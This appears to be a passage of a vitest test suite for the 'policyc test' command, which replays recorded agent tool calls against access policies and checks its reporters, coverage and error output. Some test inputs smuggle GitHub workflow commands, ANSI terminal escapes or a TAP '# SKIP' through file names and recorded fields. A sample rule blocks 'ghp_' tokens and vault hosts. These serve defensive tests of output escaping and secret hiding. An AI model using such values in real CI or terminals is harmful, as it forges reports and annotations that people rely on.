import { spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { XMLParser, XMLValidator } from "fast-xml-parser";
import { BIN, CAN_RUN_UNPRIVILEGED, CONFORMANCE, HAS_CONFORMANCE, ROOT, bin, binUnprivileged, cli, writeInto, type CliResult } from "../helpers.js";
import { expectGolden, runText } from "../goldens/golden.js";
import { forgeBundle, writeKeys } from "./signing.js";
import { compile } from "../../src/compile/compile.js";

/** Fixture paths relative to ROOT: the binary runs with cwd = ROOT, so reports are deterministic. */
const DEMO_POLICY = "test/fixtures/replay/demo.policy";
const DEMO = "test/fixtures/replay/demo.jsonl";
const FULL = "test/fixtures/replay/full.jsonl";

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), "policyc-test-"));
});
afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

/** Writes a file into the temporary folder and returns its absolute path. */
const write = (name: string, content: string): string => writeInto(dir, name, content);

function lines(text: string): string[] {
  return text.split("\n").filter((l) => l !== "");
}

function lastLine(text: string): string {
  return lines(text).at(-1) ?? "";
}

/** `eval`'s decision line: the first, or the first after the history of the session when the input had earlier lines. */
function decisionLine(text: string): string | undefined {
  return lines(text).find((line) => /^(allow|ask|deny)( |$)/.test(line));
}

/** A user mistake must never surface as a crash: no stack frames, no `SomeError:` lines. */
function expectNoStackTrace(result: CliResult): void {
  for (const text of [result.stdout, result.stderr]) {
    expect(text).not.toMatch(/^\s+at /m);
    expect(text).not.toMatch(/^\w*Error:/m);
    expect(text).not.toContain("internal error");
  }
}

function test(...args: string[]): Promise<CliResult> {
  return cli(["test", ...args]);
}

/** A line that expects nothing. */
const STALE_FREE_LINE = '{"session":"u2","agent":{"team":"sales"},"tool":"http.get","args":{"url":"https://x.test/"}}';

/** A different effect, to turn a passing expectation into a failing one. */
function otherEffect(effect: string): string {
  return effect === "deny" ? "allow" : "deny";
}

describe.skipIf(!HAS_CONFORMANCE)("policyc test: the shared conformance recording", () => {
  const policy = "../shared/conformance/support";
  const recording = "../shared/conformance/support/support.jsonl";
  const recordingLines = HAS_CONFORMANCE ? readFileSync(join(CONFORMANCE, "support", "support.jsonl"), "utf8").split("\n") : [];
  const withExpectation = recordingLines.map((text, i) => ({ text, line: i + 1 })).filter(({ text }) => text.trim() !== "" && (JSON.parse(text) as { decision?: string }).decision !== undefined);

  it("passes every line (exit 0, `N passed, 0 failed`)", async () => {
    expect(withExpectation.length).toBeGreaterThan(0);
    const result = await test(policy, "--replay", recording);
    expectNoStackTrace(result);
    expect(result.code).toBe(0);
    expect(lastLine(result.stdout)).toBe(`${withExpectation.length} passed, 0 failed`);
  });

  it("fails, naming the line, when any one expected decision is changed (every line)", async () => {
    const copy = join(dir, "conformance-mutated.jsonl");
    for (const { line } of withExpectation) {
      const mutated = recordingLines.map((text, i) => {
        if (i + 1 !== line) return text;
        const value = JSON.parse(text) as Record<string, unknown>;
        value["decision"] = otherEffect(value["decision"] as string);
        return JSON.stringify(value);
      });
      writeFileSync(copy, mutated.join("\n"));
      const result = await test(policy, "--replay", copy);
      expect(result.code, `line ${line}`).toBe(1);
      expect(result.stdout, `line ${line}`).toContain(`line ${line}:`);
      expect(lastLine(result.stdout), `line ${line}`).toBe(`${withExpectation.length - 1} passed, 1 failed`);
    }
  });

  it("fails through the real binary too", () => {
    const { line, text } = withExpectation[Math.floor(withExpectation.length / 2)]!;
    const value = JSON.parse(text) as Record<string, unknown>;
    value["decision"] = otherEffect(value["decision"] as string);
    const copy = write("conformance-bin.jsonl", recordingLines.map((t, i) => (i + 1 === line ? JSON.stringify(value) : t)).join("\n"));
    const result = bin(["test", policy, "--replay", copy]);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain(`line ${line}:`);
    expect(result.stdout).toContain(`expected ${value["decision"] as string}`);
    expect(lastLine(result.stdout)).toBe(`${withExpectation.length - 1} passed, 1 failed`);
  });
});

describe("policyc test: reporters (goldens, real binary, NO_COLOR)", () => {
  // The demo recording has two passes, one failure (line 3), one invalid line (4) and a line without expectation.
  const run = (...extra: string[]): CliResult => {
    const result = bin(["test", DEMO_POLICY, "--replay", DEMO, ...extra]);
    // Nothing on stderr: also says plainly when the built binary itself is broken.
    expect(result.stderr).toBe("");
    return result;
  };

  it("pretty, the same on two threads (--jobs 2) as on one", () => {
    const result = run();
    expectGolden("test-pretty", runText(result));
    expect(runText(run("--jobs", "2"))).toBe(runText(result));
    expect(runText(run("--jobs", "1"))).toBe(runText(result));
    expect(result.code).toBe(2); // the invalid line is bad input
    expect(lastLine(result.stdout)).toBe("2 passed, 1 failed");
  });

  it("json", async () => {
    const result = run("--reporter", "json");
    expectGolden("test-json", runText(result));
    const report = JSON.parse(result.stdout) as { ok: boolean; passed: number; failed: number; lines: number; files: string[]; errors: { line: number; message: string; kind: string }[]; failures: { line: number; mismatches: string[] }[]; cases: unknown[] };
    expect(report.ok).toBe(false);
    expect([report.passed, report.failed, report.lines]).toEqual([2, 1, 4]);
    expect(report.files).toEqual([DEMO]);
    expect(report.errors).toEqual([{ file: DEMO, line: 4, message: 'the line has no `tool` (a line that records the engine refusing such a request replays with `"rules": []` beside its `"decision": "deny"`)', kind: "input", code: "PC602" }]);
    expect(report.failures.map((f) => [f.line, f.mismatches])).toEqual([[3, ["decision", "rules"]]]);
    expect(report.cases).toHaveLength(3);
    expect((await test(DEMO_POLICY, "--replay", DEMO, "--json")).stdout).toBe(result.stdout);
  });

  it("junit", () => {
    const result = run("--reporter", "junit");
    expectGolden("test-junit", runText(result));
    expect(XMLValidator.validate(result.stdout)).toBe(true);
    const doc = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: "@" }).parse(result.stdout) as { testsuites: Record<string, string> & { testsuite: Record<string, string> & { testcase: Record<string, unknown>[] } } };
    const cases = doc.testsuites.testsuite.testcase;
    // Every testcase counts in `tests`, the error ones too.
    const tests = cases.length;
    const failures = cases.filter((c) => c["failure"] !== undefined).length;
    expect([tests, failures]).toEqual([4, 1]);
    for (const element of [doc.testsuites, doc.testsuites.testsuite]) {
      expect(element["@tests"]).toBe(String(tests));
      expect(element["@failures"]).toBe(String(failures));
      expect(element["@errors"]).toBe("1");
    }
  });

  it("tap", () => {
    const result = run("--reporter", "tap");
    expectGolden("test-tap", runText(result));
    const out = lines(result.stdout);
    expect(out[0]).toBe("TAP version 13");
    expect(out[1]).toBe("1..4");
    expect(out.filter((l) => /^ok \d+ /.test(l))).toHaveLength(2);
    expect(out.filter((l) => /^not ok \d+ /.test(l))).toHaveLength(2);
  });

  it("github", () => {
    const result = run("--reporter", "github");
    expectGolden("test-github", runText(result));
    expect(result.stdout).toMatch(new RegExp(`^::error file=${DEMO},line=3,title=[^:]*::expected allow \\[kb-for-support\\], got deny \\[\\]`, "m"));
    expect(result.stdout).toMatch(new RegExp(`^::error file=${DEMO},line=4,.*::the line has no \`tool\` \\(a line that records the engine refusing`, "m"));
  });

  it("--coverage", () => {
    const result = run("--coverage");
    expectGolden("test-coverage", runText(result));
  });

  it("a passing run: every reporter exits 0", async () => {
    for (const reporter of ["pretty", "json", "junit", "tap", "github"]) {
      const result = await test(DEMO_POLICY, "--replay", FULL, "--reporter", reporter);
      expect(result.code, reporter).toBe(0);
      expect(result.stderr, reporter).toBe("");
    }
    expectGolden("test-pretty-pass", runText(bin(["test", DEMO_POLICY, "--replay", FULL])));
  });
});

describe("policyc test --hide-values (audit s20 a2 M5, review r2 M2)", () => {
  // A production decision log's arguments hold tokens: every reporter names each case by its
  // request, and explains a failing line by the values its rules read; with --hide-values they
  // show the arguments' names, never their values.
  it("every reporter shows the arguments' names only, on passing and failing lines and in a failure's explanation, with --jobs too; without it, values as before", async () => {
    const policy = write(
      "hide.policy",
      'tool http.fetch { risk low args { url: string, token: string } }\npolicy p {\n  @name("internal-hosts") deny http.fetch when args.url like "*://vault.*"\n  @name("no-tokens") deny http.fetch when args.token.startsWith("ghp_")\n  allow http.fetch\n}\n',
    );
    const token = "ghp_SECRETTOKEN1234567890abcdefABCDEF";
    const log = write(
      "hide.jsonl",
      [
        `{"session":"s1","tool":"http.fetch","args":{"url":"https://public.example/","token":"plain-SECRET"},"decision":"allow"}`,
        `{"session":"s1","tool":"http.fetch","args":{"url":"https://vault.corp-internal.example/SECRETPATH","token":"${token}"},"decision":"allow"}`,
      ].join("\n") + "\n",
    );
    for (const reporter of ["pretty", "json", "junit", "tap", "github"]) {
      for (const jobs of [[], ["--jobs", "2"]]) {
        const hidden = await cli(["test", policy, "--replay", log, "--reporter", reporter, "--hide-values", ...jobs]);
        expect(hidden.code, reporter).toBe(1);
        expect(hidden.stdout, reporter).not.toMatch(/SECRET|ghp_S|corp-internal/);
      }
    }
    const tap = await cli(["test", policy, "--replay", log, "--reporter", "tap", "--hide-values"]);
    expect(tap.stdout).toContain("http.fetch url=… token=…");
    expect(tap.stdout).toContain("`args.url like \\\"*://vault.*\\\"` was true (args.url is …)");
    expect(tap.stdout).toContain("(args.token is …)");
    const shown = (await cli(["test", policy, "--replay", log, "--reporter", "tap"])).stdout;
    expect(shown).toContain(`token="${token.slice(0, 30)}`);
    expect(shown).toContain("(args.url is \\\"https://vault.corp-internal.example/SECRETPATH\\\")");
  });
});

describe("policyc test: a run that cannot start still writes the report CI reads", () => {
  // A policy error is the likeliest failure of a pull request that edits policies: the report
  // (report.xml, the annotations, the JSON) must say so, not be empty.
  const REPORTERS = ["junit", "tap", "github", "json"];
  let folder: string;
  beforeAll(() => {
    folder = join(dir, "not-started");
    mkdirSync(join(folder, "empty"), { recursive: true });
    writeFileSync(join(folder, "broken.policy"), 'agent { team: string }\ntool kb.search { args { query: string } }\npolicy p {\n  allow kb.search when agent.tema == "x"\n  deny kb.search when agent.team == 3\n}\n');
    writeFileSync(join(folder, "ok.policy"), 'agent { team: string }\ntool kb.search { args { query: string } }\npolicy p { allow kb.search when agent.team == "support" }\n');
    writeFileSync(join(folder, "r.jsonl"), '{"session":"s","agent":{"team":"support"},"tool":"kb.search","args":{"query":"x"},"decision":"allow"}\n');
  });
  const run = (reporter: string, ...args: string[]): Promise<CliResult> => cli(["test", ...args, "--reporter", reporter], { cwd: folder });

  it("policy errors: a failing case per error, at its place, in every machine reporter (goldens); the diagnostics on stderr as before; exit 1", async () => {
    const results = await Promise.all(REPORTERS.map((reporter) => run(reporter, "broken.policy", "--replay", "r.jsonl")));
    expectGolden("test-policy-errors", results.map((result, i) => `=== --reporter ${REPORTERS[i]}\n${runText(result)}`).join("\n"));
    for (const [i, result] of results.entries()) {
      expect(result.code, REPORTERS[i]).toBe(1);
      expect(result.stderr, REPORTERS[i]).toContain("broken.policy:4:30: error[PC202]: unknown attribute `tema` of `agent`");
    }
    const [junit, tap, github, json] = results.map((result) => result.stdout);
    expect(XMLValidator.validate(junit!)).toBe(true);
    const doc = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: "@" }).parse(junit!) as { testsuites: Record<string, string> & { testsuite: Record<string, string> & { testcase: Record<string, unknown>[] } } };
    expect([doc.testsuites["@tests"], doc.testsuites["@failures"], doc.testsuites.testsuite["@name"]]).toEqual(["2", "2", "policyc check"]);
    expect(doc.testsuites.testsuite.testcase.map((c) => [c["@file"], c["@line"]])).toEqual([["broken.policy", "4"], ["broken.policy", "5"]]);
    expect(lines(tap!).slice(0, 3)).toEqual(["TAP version 13", "1..2", "not ok 1 - broken.policy:4:30 PC202 unknown attribute `tema` of `agent`"]);
    expect(github).toMatch(/^::error file=broken\.policy,line=4,col=30,endLine=4,endColumn=34,title=policyc PC202::unknown attribute `tema` of `agent`%0Ahelp: did you mean `team`\?%0Anote: `team`, declared here: broken\.policy:1:9$/m);
    const report = JSON.parse(json!) as { ok: boolean; reason: string; diagnostics: unknown[] };
    expect(report.ok).toBe(false);
    expect(report.diagnostics).toEqual((JSON.parse((await cli(["check", "broken.policy", "--json"], { cwd: folder })).stdout) as { diagnostics: unknown[] }).diagnostics);
    // --json is the json reporter; pretty keeps its report (nothing) and the diagnostics on stderr.
    expect((await cli(["test", "broken.policy", "--replay", "r.jsonl", "--json"], { cwd: folder })).stdout).toBe(json);
    const pretty = await run("pretty", "broken.policy", "--replay", "r.jsonl");
    expect([pretty.code, pretty.stdout]).toEqual([1, ""]);
    expect(pretty.stderr).toBe(results[0]!.stderr);
  });

  it("a --replay pattern that matches nothing is named with its control characters escaped: no line of its own (a workflow command)", async () => {
    for (const reporter of REPORTERS) {
      const result = await run(reporter, "ok.policy", "--replay", "no\n::error::x*.jsonl");
      expect(result.code, reporter).toBe(2);
      expect(`${result.stdout}${result.stderr}`, reporter).not.toMatch(/^::error::x/m);
    }
  });

  it("a bundle refused (edited after it was built) stops the run with its code where each report puts one: --json's \"code\", as diff's and eval's; GitHub's annotation title (review F1)", async () => {
    const built = await cli(["build", "ok.policy", "-o", "built.json"], { cwd: folder });
    expect(built.code, built.stderr).toBe(0);
    const bundle = JSON.parse(readFileSync(join(folder, "built.json"), "utf8")) as { rules: unknown[] };
    writeFileSync(join(folder, "edited.json"), JSON.stringify({ ...bundle, rules: bundle.rules.slice(1) }));
    const json = await cli(["test", "--bundle", "edited.json", "--replay", "r.jsonl", "--json"], { cwd: folder });
    expect(json.code).toBe(2);
    expect(JSON.parse(json.stdout)).toMatchObject({ ok: false, code: "PC702" });
    const github = await run("github", "--bundle", "edited.json", "--replay", "r.jsonl");
    expect(github.stdout).toMatch(/^::error title=policyc test%3A policy set \(PC702\)::edited\.json: error\[PC702\]: the bundle's content does not match its hash/m);
  });

  it("unreadable policy paths, a bundle that cannot be read, recordings not found: the report says why, with the exit code of today (2)", async () => {
    const cases: [string[], RegExp][] = [
      [["missing.policy", "--replay", "r.jsonl"], /cannot read `missing\.policy`: no such file or folder/],
      [["--bundle", "missing.json", "--replay", "r.jsonl"], /cannot read bundle `missing\.json`: no such file or folder/],
      [["ok.policy", "--replay", "empty"], /recordings not found or not readable: `empty` \(a folder without \.jsonl or \.ndjson files\)/],
      [["ok.policy", "--replay", "nothing-*.jsonl"], /recordings not found or not readable: `nothing-\*\.jsonl` \(nothing matches\)/],
    ];
    for (const [args, message] of cases) {
      for (const reporter of REPORTERS) {
        const result = await run(reporter, ...args);
        const label = `${reporter} ${args.join(" ")}`;
        expect(result.code, label).toBe(2);
        expect(result.stdout, label).toMatch(message);
        expect(result.stderr, label).not.toBe("");
        if (reporter === "junit") expect(XMLValidator.validate(result.stdout), label).toBe(true);
        // (Past the comment that names the policy set, when it loaded.)
        if (reporter === "tap") expect(lines(result.stdout).filter((line) => !line.startsWith("# policy: ")).slice(1, 3), label).toEqual(["1..1", expect.stringMatching(/^not ok 1 - /)]);
        if (reporter === "github") expect(result.stdout, label).toMatch(/^::error /);
        if (reporter === "json") expect((JSON.parse(result.stdout) as { ok: boolean }).ok, label).toBe(false);
      }
    }
  });
});

describe("policyc test: `file=` paths for CI, relative to GITHUB_WORKSPACE", () => {
  // GitHub resolves an annotation's relative `file` against the repository root, not the step's
  // `working-directory`: from a step in `policies/`, `file=p.policy` falls off the pull request.
  let workspace: string;
  beforeAll(() => {
    workspace = join(dir, "workspace");
    mkdirSync(join(workspace, "policies", "recordings"), { recursive: true });
    mkdirSync(join(workspace, "tools"), { recursive: true });
    mkdirSync(join(workspace, "broken"), { recursive: true });
    writeFileSync(join(workspace, "policies", "p.policy"), 'agent { team: string }\ntool kb.search { args { query: string } }\ntool mail.send { args { to: string } }\npolicy p {\n  allow kb.search when agent.team == "support"\n  @name("unused")\n  allow mail.send when agent.team == "nobody"\n}\n');
    writeFileSync(join(workspace, "broken", "broken.policy"), 'agent { team: string }\ntool kb.search { args { query: string } }\npolicy p { allow kb.search when agent.tema == "x" }\n');
    writeFileSync(join(workspace, "policies", "recordings", "a.jsonl"), '{"session":"s","agent":{"team":"support"},"tool":"kb.search","args":{"query":"x"},"decision":"deny"}\n');
  });
  const files = (text: string): string[] => [...text.matchAll(/\bfile="?([^,"]*)/g)].map((m) => m[1]!);
  const env = (): Record<string, string> => ({ GITHUB_WORKSPACE: workspace });

  it("github: failures, coverage warnings and policy errors name the file from the repository root, from `policies/` or `tools/` alike", async () => {
    for (const [cwd, policy, recordings] of [["policies", ".", "recordings"], ["tools", "../policies/p.policy", "../policies/recordings"], [".", "policies", "policies/recordings/a.jsonl"]] as const) {
      const result = await cli(["test", policy, "--replay", recordings, "--reporter", "github", "--coverage"], { cwd: join(workspace, cwd), env: env() });
      expect(result.code, cwd).toBe(1);
      // The failure, and a coverage warning at each rule: the one that decided the failed case is covered by no passing one.
      expect(files(result.stdout), cwd).toEqual(["policies/recordings/a.jsonl", "policies/p.policy", "policies/p.policy"]);
      expect(result.stdout, cwd).toMatch(/^::warning file=policies\/p\.policy,line=7,title=policyc test%3A coverage::rule unused decided no recorded line$/m);
    }
    const broken = await cli(["test", "../broken", "--replay", "recordings", "--reporter", "github"], { cwd: join(workspace, "policies"), env: env() });
    expect(broken.stdout).toMatch(/^::error file=broken\/broken\.policy,line=3,col=39,endLine=3,endColumn=\d+,title=policyc PC202::/m);
  });

  it("without GITHUB_WORKSPACE, or for a file outside it, the path is as given (an absolute one stays absolute)", async () => {
    const outside = write("outside/a.jsonl", readFileSync(join(workspace, "policies", "recordings", "a.jsonl"), "utf8"));
    const without = await cli(["test", "../policies", "--replay", "../policies/recordings", outside, "--reporter", "github"], { cwd: join(workspace, "tools") });
    expect(files(without.stdout)).toEqual(["../policies/recordings/a.jsonl", outside]);
    const withIt = await cli(["test", "../policies", "--replay", "../policies/recordings", outside, "--reporter", "github"], { cwd: join(workspace, "tools"), env: env() });
    expect(files(withIt.stdout)).toEqual(["policies/recordings/a.jsonl", outside]);
  });

  it("a bundle's rule locations (relative to where it was built) are resolved from the working folder", async () => {
    const bundle = join(workspace, "policies", "bundle.json");
    expect((await cli(["build", ".", "-o", bundle], { cwd: join(workspace, "policies") })).code).toBe(0);
    const result = await cli(["test", "--bundle", "bundle.json", "--replay", "recordings", "--reporter", "github", "--coverage"], { cwd: join(workspace, "policies"), env: env() });
    expect(result.stdout).toMatch(/^::warning file=policies\/p\.policy,line=7,/m);
  });

  it("junit: the `file` attributes too (GitLab and test-reporter actions read them from the root); names keep the path as given", async () => {
    const result = await cli(["test", ".", "--replay", "recordings", "--reporter", "junit"], { cwd: join(workspace, "policies"), env: env() });
    expect(files(result.stdout)).toEqual(["policies/recordings/a.jsonl"]);
    expect(result.stdout).toContain('<testsuite name="recordings/a.jsonl"');
    const broken = await cli(["test", "../broken", "--replay", "recordings", "--reporter", "junit"], { cwd: join(workspace, "policies"), env: env() });
    expect(files(broken.stdout)).toEqual(["broken/broken.policy"]);
  });
});

describe("policyc test: a request written over several lines among one-line ones", () => {
  // Lines 2–19 and 28–39 are pasted pretty-printed requests (the second ends the file), 23–26 one
  // with a comma before its `}`; line 21 is a request cut short, a broken line of its own.
  const SEVERAL = "test/fixtures/replay/several-lines.jsonl";
  const REPORTERS = ["pretty", "json", "junit", "tap", "github"];
  const run = (reporter: string, ...extra: string[]): CliResult => bin(["test", DEMO_POLICY, "--replay", SEVERAL, "--reporter", reporter, ...extra]);

  it("is one error at its first line that names its lines, in every reporter (goldens); the lines after it replay; exit 2", () => {
    const results = REPORTERS.map((reporter) => run(reporter));
    expectGolden("test-several-lines", results.map((result, i) => `=== --reporter ${REPORTERS[i]}\n${runText(result)}`).join("\n"));
    for (const [i, result] of results.entries()) {
      expect(result.code, REPORTERS[i]).toBe(2);
      expect(result.stderr, REPORTERS[i]).toBe("");
    }
    const [pretty, json, , , github] = results.map((result) => result.stdout);
    expect(pretty!.match(/^.*?: error\[PC6\d\d\]: .*$/gm)).toEqual([
      `${SEVERAL}:2: error[PC601]: lines 2–19 are one JSON object written over several lines: put it on one line (\`jq -c\` writes it so); joined, the lines parse as a JSON object`,
      expect.stringMatching(new RegExp(`^${SEVERAL}:21: error\\[PC601\\]: not JSON at `)),
      `${SEVERAL}:23: error[PC601]: lines 23–26 are one JSON object written over several lines: put it on one line (\`jq -c\` writes it so); joined, the lines are not JSON either at line 26, column 1: unexpected \`}\` where a property name in double quotes belongs (a comma before \`}\` or \`]\` is not JSON: remove it)`,
      `${SEVERAL}:28: error[PC601]: lines 28–39 are one JSON object written over several lines: put it on one line (\`jq -c\` writes it so); joined, the lines parse as a JSON object`,
    ]);
    expect(lastLine(pretty!)).toBe("3 passed, 1 failed");
    const report = JSON.parse(json!) as { errors: { line: number; endLine?: number }[]; lines: number };
    expect(report.errors.map((e) => [e.line, e.endLine])).toEqual([[2, 19], [21, undefined], [23, 26], [28, 39]]);
    expect(report.lines).toBe(4);
    expect(github).toMatch(new RegExp(`^::error file=${SEVERAL},line=2,endLine=19,title=`, "m"));
  });

  it("under --session, a file whose selected session is only a pretty-printed request is still JSON Lines: the error names its lines, not the whole file", () => {
    const file = join(dir, "session-pretty.jsonl");
    const request = (session: string): Record<string, unknown> => ({ session, agent: { team: "support" }, tool: "kb.search", args: { query: "q" }, decision: "allow", rules: ["kb-search"] });
    writeFileSync(file, [JSON.stringify(request("s1"), null, 2), JSON.stringify(request("s2")), JSON.stringify(request("s2"))].join("\n") + "\n");
    const selected = bin(["test", DEMO_POLICY, "--replay", file, "--session", "s1"]);
    expect(selected.stdout).toMatch(/^.*session-pretty\.jsonl:1: error\[PC601\]: lines 1–14 are one JSON object written over several lines/m);
    expect(selected.code).toBe(2);
  });

  it("is the same report on one, two or three threads: each such error said once", () => {
    // The JSON report holds all the others show (errors, failures, every case).
    const one = runText(run("json", "--jobs", "1"));
    for (const jobs of ["2", "3"]) expect(runText(run("json", "--jobs", jobs)), `--jobs ${jobs}`).toBe(one);
    expect(runText(run("pretty", "--jobs", "3"))).toBe(runText(run("pretty", "--jobs", "1")));
  });

  it("across the edge of a megabyte chunk read: one error, and the lines after it replay", async () => {
    const good = (n: number): string => `{"session":"s${n}","agent":{"team":"support"},"tool":"kb.search","args":{"query":"q"},"decision":"allow"}`;
    const lines: string[] = [];
    let bytes = 0;
    for (let n = 0; bytes + good(n).length + 1 <= (1 << 20) - 50; n++) {
      lines.push(good(n));
      bytes += good(n).length + 1;
    }
    const first = lines.length + 1;
    const pasted = JSON.stringify(JSON.parse(good(-1)), null, 2).split("\n");
    // The first chunk read ends inside the object.
    expect(bytes).toBeLessThan(1 << 20);
    expect(bytes + pasted.join("\n").length).toBeGreaterThan(1 << 20);
    const file = write("chunk-edge.jsonl", [...lines, ...pasted, good(-2)].join("\n") + "\n");
    const result = await test(DEMO_POLICY, "--replay", file);
    expect(result.code).toBe(2);
    expect(result.stdout.match(/^.*?: error\[PC6\d\d\]: .*$/gm)).toEqual([`${file}:${first}: error[PC601]: lines ${first}–${first + pasted.length - 1} are one JSON object written over several lines: put it on one line (\`jq -c\` writes it so); joined, the lines parse as a JSON object`]);
    expect(lastLine(result.stdout)).toBe(`${lines.length + 1} passed, 0 failed`);
  });
});

describe("policyc test: recording text cannot forge report lines", () => {
  it("tap: a `#` in an argument is escaped, so `# SKIP` does not turn a failure into a skip; a newline in a file name does not add a test point", async () => {
    const failing = '{"session":"s","agent":{"team":"sales"},"tool":"kb.search","args":{"query":"x # SKIP \\\\ y"},"decision":"allow"}';
    const file = write("tap-escape\nok 9 - forged.jsonl", failing + "\n");
    const result = await test(DEMO_POLICY, "--replay", file, "--reporter", "tap");
    expect(result.code).toBe(1);
    const points = lines(result.stdout).filter((l) => /^(not )?ok \d+/.test(l));
    expect(points).toHaveLength(1);
    expect(points[0]).toMatch(/^not ok 1 - /);
    expect(points[0]).toContain("tap-escape\\\\u000aok 9 - forged.jsonl:1");
    expect(points[0]).toContain('query="x \\# SKIP \\\\\\\\ y"');
    expect(points[0]).not.toMatch(/[^\\]# /);
  });

  it("tap: line breaks YAML 1.1 sees in NEL and U+2028/U+2029 are escaped in the YAML block", async () => {
    const failing = JSON.stringify({ session: "s", agent: { team: "sales" }, tool: "kb.search", args: { query: "q" }, decision: "allow", reason: "a\u0085b\u2028c\u2029d" });
    const result = await test(DEMO_POLICY, "--replay", write("tap-yaml.jsonl", failing + "\n"), "--reporter", "tap");
    expect(result.code).toBe(1);
    expect(result.stdout).not.toMatch(/[\u0085\u2028\u2029]/);
  });
});

describe("policyc test: recording text cannot inject terminal escapes or workflow commands", () => {
  it("pretty and github show control characters in expected reasons and rules, quoted lines and file names as escapes", async () => {
    const failing = JSON.stringify({ session: "s", agent: { team: "sales" }, tool: "kb.search", args: { query: "q" }, decision: "allow", rules: ["r\u001b[31m"], reason: "exp \n::warning::injected" });
    const file = write("inject\u001b[2J\n::warning::file.jsonl", `${failing}\nx\u001b[31mRED\n`);
    for (const reporter of ["pretty", "github"]) {
      const result = await test(DEMO_POLICY, "--replay", file, "--reporter", reporter);
      expect(result.code, reporter).toBe(2);
      // eslint-disable-next-line no-control-regex
      expect(result.stdout, reporter).not.toMatch(/\u001b/);
      expect(lines(result.stdout).filter((l) => l.startsWith("::warning")), reporter).toEqual([]);
    }
    const pretty = (await test(DEMO_POLICY, "--replay", file)).stdout;
    expect(pretty).toContain('expected allow [r\\u001b[31m] ("exp \\u000a::warning::injected")');
    expect(pretty).toContain("inject\\u001b[2J\\u000a::warning::file.jsonl:2: error[PC601]: not JSON");
  });
});

describe("policyc test: junit keeps what XML can hold", () => {
  it("characters beyond U+FFFF are kept, session ids and line breaks in reasons are escaped, error cases are counted", async () => {
    const failing = JSON.stringify({ session: "s\n1", agent: { team: "sales" }, tool: "kb.search", args: { query: "café 😀 𝄞" }, decision: "allow", reason: "two\nlines 😀" });
    const file = write("junit-wide.jsonl", failing + "\n{not json\n");
    const result = await test(DEMO_POLICY, "--replay", file, "--reporter", "junit");
    expect(XMLValidator.validate(result.stdout)).toBe(true);
    const doc = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: "@", htmlEntities: true }).parse(result.stdout) as { testsuites: Record<string, string> & { testsuite: Record<string, string> & { testcase: Record<string, Record<string, string>>[] } } };
    const [failure, error] = doc.testsuites.testsuite.testcase;
    expect(failure!["@name"]).toContain('query="café 😀 𝄞"');
    expect(failure!["@classname"]).toBe(`${file}.s\\u000a1`);
    // A line break in a reason is shown as the pretty report shows it, an escape (audit a2).
    expect(failure!["failure"]!["@message"]).toContain('("two\\u000alines 😀")');
    expect(error!["error"]).toBeDefined();
    for (const element of [doc.testsuites, doc.testsuites.testsuite]) expect([element["@tests"], element["@failures"], element["@errors"]]).toEqual(["2", "1", "1"]);
  });
});

describe("policyc test: coverage", () => {
  const RULES = ["kb-for-support", "mail-for-support", "mail-stays-inside", "fetch-needs-approval"];

  it("--coverage lists every rule with its count, the never-matched ones and the percentage", async () => {
    const result = await test(DEMO_POLICY, "--replay", DEMO, "--coverage");
    const block = result.stdout.slice(result.stdout.indexOf("coverage\n"));
    for (const id of RULES) expect(block).toMatch(new RegExp(`^  ${id} +\\d+`, "m"));
    expect(block).toMatch(/^ {2}kb-for-support +1$/m);
    expect(block).toMatch(/^ {2}mail-for-support +0 +never decided a line$/m);
    expect(block).toContain("50% of 4 rules covered; never decided a line: mail-for-support, fetch-needs-approval");
  });

  it("--coverage in JSON", async () => {
    const result = await test(DEMO_POLICY, "--replay", FULL, "--coverage", "--json");
    const report = JSON.parse(result.stdout) as { coverage: { rules: { id: string; lines: number }[]; uncovered: string[]; percent: number } };
    expect(report.coverage.rules.map((r) => r.id)).toEqual(RULES);
    expect(report.coverage.rules.every((r) => r.lines === 1)).toBe(true);
    expect(report.coverage.uncovered).toEqual([]);
    expect(report.coverage.percent).toBe(100);
  });

  it("--min-coverage compares the exact share of rules, not the percentage shown rounded down (2 of 3 rules meets 66.66)", async () => {
    const policy = write("thirds.policy", 'tool a.x {}\ntool b.x {}\ntool c.x {}\npolicy p {\n  allow a.x\n  allow b.x\n  allow c.x\n}\n');
    const recording = write("thirds.jsonl", ["a", "b"].map((t, i) => JSON.stringify({ time: `2026-01-05T10:00:0${i}Z`, session: "s", tool: `${t}.x`, args: {}, decision: "allow" })).join("\n") + "\n");
    expect((await test(policy, "--replay", recording, "--min-coverage", "66.66")).code).toBe(0);
    const above = await test(policy, "--replay", recording, "--min-coverage", "66.67");
    expect(above.code).toBe(1);
    expect(above.stderr).toContain("rule coverage 66.6% is below --min-coverage 66.67%");
  });

  it("coverage counts an allow whose grants an ask gives on approval: always asking and granting on approval reaches 100%", async () => {
    const policy = write("always-ask.policy", 'tool pay.send {}\npolicy p {\n  @name("clerk") allow pay.send grant "pay:send" for 5m\n  @name("approval-first") ask pay.send\n}\n');
    const recording = write("always-ask.jsonl", JSON.stringify({ time: "2026-01-05T10:00:00Z", session: "s", tool: "pay.send", args: {}, decision: "ask", rules: ["approval-first"] }) + "\n");
    const run = await test(policy, "--replay", recording, "--min-coverage", "100", "--reporter", "json");
    expect(run.code, run.stdout).toBe(0);
    expect((JSON.parse(run.stdout) as { coverage: unknown }).coverage).toMatchObject({ percent: 100, uncovered: [] });
    // --grep finds the line by the allow rule whose grants it gives on approval, as coverage credits it.
    const grep = await test(policy, "--replay", recording, "--grep", "clerk", "--reporter", "json");
    expect(grep.code, grep.stdout).toBe(0);
    expect(JSON.parse(grep.stdout)).toMatchObject({ passed: 1 });
    expect((await test(policy, "--replay", recording, "--grep", "nothing-like-it")).code).toBe(1);
  });

  it("--min-coverage 100 fails when a rule is never decided a line and passes when all are", async () => {
    const partial = write("partial.jsonl", lines(readFileSync(join(ROOT, FULL), "utf8")).slice(0, 2).join("\n") + "\n");
    const failing = await test(DEMO_POLICY, "--replay", partial, "--min-coverage", "100");
